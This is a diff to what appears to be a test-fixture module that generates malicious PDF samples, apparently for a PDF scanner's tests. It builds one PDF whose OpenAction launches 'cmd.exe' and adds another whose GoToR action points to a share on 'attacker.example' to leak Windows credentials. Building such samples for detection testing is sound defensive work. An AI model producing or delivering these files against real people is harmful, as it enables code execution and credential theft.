@@ -294,16 +294,21 @@ def pdf_with_obfuscated_javascript() -> Sample:
     return "svar.pdf", data
 
 
-def pdf_with_launch() -> Sample:
+def pdf_with_launch(action_type: str = "/Launch", target: str = "cmd.exe") -> Sample:
     writer = _blank_writer()
     action = DictionaryObject(
         {
-            NameObject("/S"): NameObject("/Launch"),
-            NameObject("/F"): TextStringObject("cmd.exe"),
+            NameObject("/S"): NameObject(action_type),
+            NameObject("/F"): TextStringObject(target),
         }
     )
     writer.root_object[NameObject("/OpenAction")] = writer._add_object(action)
     return "svar.pdf", _pdf_bytes(writer)
+
+
+def pdf_with_remote_goto() -> Sample:
+    """A GoToR action opening a file on a remote share (leaks Windows credentials)."""
+    return pdf_with_launch("/GoToR", "\\\\attacker.example\\share\\x.pdf")
 
 
 def pdf_with_embedded_file() -> Sample:
